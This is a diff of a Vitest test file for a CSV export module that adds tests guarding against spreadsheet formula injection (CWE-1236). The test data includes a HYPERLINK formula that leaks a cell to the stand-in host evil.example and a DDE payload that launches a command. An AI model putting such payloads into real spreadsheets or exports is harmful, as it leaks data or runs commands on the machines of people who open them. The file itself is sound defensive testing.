@@ -1,6 +1,15 @@
 import { describe, expect, it } from 'vitest';
 import { CSV_MEDIA_TYPE, type CsvSpec, MAX_CSV_LINES } from '../../../contracts/csv/spec';
-import { csvAnswer, csvField, csvFile, csvText, wantsCsv } from '../../../lambdas/platform/csv';
+import {
+  csvAnswer,
+  csvField,
+  csvFile,
+  csvHeader,
+  csvRow,
+  csvText,
+  neutralizeFormula,
+  wantsCsv,
+} from '../../../lambdas/platform/csv';
 import { ApiError } from '../../../lambdas/platform/problems';
 
 describe('csvField (RFC 4180)', () => {
@@ -20,6 +29,8 @@ describe('csvField (RFC 4180)', () => {
     ['a CRLF quoted', 'line 1\r\nline 2', '"line 1\r\nline 2"'],
     ['everything at once', 'a,"b"\r\nc', '"a,""b""\r\nc"'],
     ['a Japanese comma (、) unquoted', '東京都、渋谷区', '東京都、渋谷区'],
+    ['a semicolon quoted (a list separator in some locales)', 'a;=1+2', '"a;=1+2"'],
+    ['a negative number as it is', -500, '-500'],
   ])('writes %s', (_, cell, field) => {
     expect(csvField(cell)).toBe(field);
   });
@@ -83,9 +94,9 @@ describe('csvAnswer and csvFile', () => {
   const spec: CsvSpec<Item> = {
     fileName: 'things',
     columns: [
-      { header: 'ID', cell: (i) => i.id },
-      { header: '名前', cell: (i) => i.name },
-      { header: '席数', cell: (i) => i.seats },
+      { header: 'ID', type: 'text', cell: (i) => i.id },
+      { header: '名前', type: 'text', cell: (i) => i.name },
+      { header: '席数', type: 'number', cell: (i) => i.seats },
     ],
   };
   const csv = csvAnswer(spec, (answer: { items: Item[] }) => answer.items);
@@ -112,6 +123,110 @@ describe('csvAnswer and csvFile', () => {
     });
     expect(CSV_MEDIA_TYPE).toBe('text/csv; charset=utf-8');
     expect(file.body).toBe('\uFEFFID,名前,席数\r\na,"会議室, A",4\r\nb,ブース,\r\n');
+  });
+});
+
+describe('neutralizeFormula (CWE-1236)', () => {
+  it.each([
+    ['=', '=HYPERLINK("https://evil.example/?"&A1,"詳細")'],
+    ['+ (a phone number Excel would add up)', '+81-3-1234-5678'],
+    ['-', '-500'],
+    ['@', '@SUM(A1:A9)'],
+    ['DDE', "=cmd|' /C calc'!A0"],
+    ['tab', '\t=1+2'],
+    ['CR', '\r=1+2'],
+    ['LF', '\n=1+2'],
+    ['NUL', '\u0000=1+2'],
+    ['spaces before =', '  =1+2'],
+    ['an ideographic space before =', '\u3000=1+2'],
+    ['full-width ＝', '＝1+2'],
+    ['full-width ＋', '＋81-3-1234-5678'],
+    ['full-width －', '－500'],
+    ['full-width ＠', '＠SUM(A1:A9)'],
+  ])('puts a quote before text starting with %s', (_, text) => {
+    expect(neutralizeFormula(text)).toBe(`'${text}`);
+  });
+
+  it.each([
+    'TIMEWORK渋谷',
+    '株式会社+Style',
+    '03-1234-5678',
+    'a=b',
+    '1+1',
+    'R-2447-7582-6513',
+    'TW000123',
+    "'quoted already",
+    ' 道玄坂 1-1',
+    '',
+  ])('leaves %j as it is', (text) => {
+    expect(neutralizeFormula(text)).toBe(text);
+  });
+});
+
+describe('csvRow (cells by column type)', () => {
+  interface Line {
+    company: string | null;
+    phone: string;
+    amount: number | null;
+    day: string | null;
+    at: string | null;
+  }
+  const spec: CsvSpec<Line> = {
+    fileName: 'lines',
+    columns: [
+      { header: '利用企業', type: 'text', cell: (l) => l.company },
+      { header: '連絡先', type: 'text', cell: (l) => l.phone },
+      { header: '金額', type: 'number', cell: (l) => l.amount },
+      { header: '利用日', type: 'date', cell: (l) => l.day },
+      { header: '入館', type: 'dateTime', cell: (l) => l.at },
+    ],
+  };
+  const hostile: Line = {
+    company: '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
+    phone: '+81-3-1234-5678',
+    amount: -500,
+    day: '2026/11/24',
+    at: '2026/11/24 14:00',
+  };
+
+  it('neutralizes text cells and leaves numbers and dates as they are', () => {
+    expect(csvRow(spec, hostile)).toEqual([
+      '\'=HYPERLINK("https://evil.example/?"&A1,"詳細")',
+      "'+81-3-1234-5678",
+      -500,
+      '2026/11/24',
+      '2026/11/24 14:00',
+    ]);
+  });
+
+  it('writes the file with the quote inside the RFC 4180 quoting, and -500 as a bare number', () => {
+    expect(csvText([csvHeader(spec), csvRow(spec, hostile)])).toBe(
+      '\uFEFF利用企業,連絡先,金額,利用日,入館\r\n' +
+        '"\'=HYPERLINK(""https://evil.example/?""&A1,""詳細"")",\'+81-3-1234-5678,-500,2026/11/24,2026/11/24 14:00\r\n',
+    );
+  });
+
+  it('writes nothing as empty cells in every type', () => {
+    const empty: Line = { company: null, phone: '', amount: null, day: null, at: null };
+    expect(csvRow(spec, empty)).toEqual([null, '', null, null, null]);
+  });
+
+  it('refuses a number column cell that is not a finite number (no text through a number column)', () => {
+    const asText = { ...hostile, amount: '=1+2' as unknown as number };
+    expect(() => csvRow(spec, asText)).toThrow('金額 is a number column');
+    expect(() => csvRow(spec, { ...hostile, amount: Number.NaN })).toThrow('金額 is a number column');
+    expect(() => csvRow(spec, { ...hostile, amount: Number.POSITIVE_INFINITY })).toThrow('金額 is a number column');
+  });
+
+  it('refuses a date or date-time cell not in the site format', () => {
+    expect(() => csvRow(spec, { ...hostile, day: '2026-11-24' })).toThrow('利用日 is a date column');
+    expect(() => csvRow(spec, { ...hostile, day: '=1+2' })).toThrow('利用日 is a date column');
+    expect(() => csvRow(spec, { ...hostile, at: '2026-11-24T14:00:00+09:00' })).toThrow('入館 is a dateTime column');
+  });
+
+  it('is what csvAnswer writes for each item', () => {
+    const csv = csvAnswer(spec, (answer: { items: Line[] }) => answer.items);
+    expect(csv.lines({ items: [hostile] })).toEqual([csvHeader(spec), csvRow(spec, hostile)]);
   });
 });
 
